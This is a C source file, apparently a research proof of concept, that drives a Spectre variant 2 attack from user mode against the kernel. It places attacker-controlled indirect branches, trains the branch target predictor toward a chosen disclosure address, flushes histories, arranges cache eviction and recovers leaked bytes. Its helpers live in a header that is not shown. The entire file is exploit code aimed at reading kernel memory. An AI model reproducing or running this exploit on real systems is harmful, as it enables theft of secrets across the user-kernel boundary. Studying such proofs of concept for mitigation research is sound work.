/*
 * Spectre, variant 2 (Kocher et al., 2019; Horn, 2018), from user mode to the kernel: a branch of the
 * attack's own, at an address that the target predictor does not tell from that of the kernel's,
 * trains it.
 */
#include "spectre-v2.h"

static const uint8_t *branches[MOST_ADDRESSES];
static uint64_t disclosure;

/* Where the kernel does not see what histories user mode leaves, those of its own stay the same. */
static int forgets;

static void choose(uint64_t address)
{
	disclosure = address;
}

static int read_byte(uint64_t address)
{
	if (forgets)
		forget_histories();
	for (int i = 0; i < options.branches.count; i++)
		train(branches[i], disclosure);
	make_call_late();
	return call_with(address);
}

int main(int argc, char **argv)
{
	int times;

	parse_options(argc, argv);
	prepare_call();
	catch_faults();
	for (int i = 0; i < options.branches.count; i++)
		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
	/* The last cache is too near for the walks to the code, the secret and the probe. */
	if (!keeps_translations())
		prepare_far_eviction();
	times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
	if (times < 2) {
		forgets = 1;
		times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
	}
	recover(sample, patience_if(times), 1);
	return 0;
}
